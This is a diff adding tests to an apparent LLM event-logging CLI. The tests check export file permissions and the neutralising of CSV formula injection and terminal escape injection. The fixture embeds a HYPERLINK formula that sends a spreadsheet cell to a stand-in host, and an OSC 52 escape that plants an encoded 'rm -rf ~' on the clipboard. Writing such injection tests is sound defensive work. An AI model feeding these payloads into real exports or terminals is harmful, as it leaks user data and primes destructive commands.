@@ -176,6 +176,35 @@ def test_export(project: Project, tmp_path: Path, fmt: str) -> None:
     assert text == one["output_text"]
     if fmt == "parquet":
         assert by_id[one["id"]]["input_tokens"] == one["usage"]["input_tokens"]
+    assert out.stat().st_mode & 0o777 == 0o600  # prompts and answers: the owner's alone
+
+
+def test_exported_csv_and_printed_tables_hold_no_formula_and_no_escape(
+    project: Project, tmp_path: Path
+) -> None:
+    """What an event says reaches a spreadsheet and a terminal as text: a CSV cell that would
+    start a formula starts with a quote, a control character in a table is shown as ?."""
+    sent = event(
+        model="gpt-4o\x1b]52;c;cm0gLXJmIH4=\x07",
+        output_text='=HYPERLINK("https://x.example/?"&A2,"open")',
+        attributes={"team": "red"},
+    )
+    assert post_events(project, [sent]).status_code == 200
+    out = tmp_path / "events.csv"
+    base = ["--url", project.server.url, "--api-key", project.key]
+    exported = subprocess.run(
+        [*LLMTAP, "export", "--format", "csv", "-o", str(out), *base, "--attribute", "team=red"],
+        capture_output=True, text=True,
+    )  # fmt: skip
+    assert exported.returncode == 0, exported.stderr
+    with out.open() as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["output_text"] == "'" + sent["output_text"]
+    listed = subprocess.run(
+        [*LLMTAP, "events", *base, "--attribute", "team=red"], capture_output=True, text=True
+    )
+    assert listed.returncode == 0, listed.stderr
+    assert "\x1b" not in listed.stdout and "gpt-4o?]52;c;" in listed.stdout
 
 
 def test_stats_cli(project: Project) -> None:
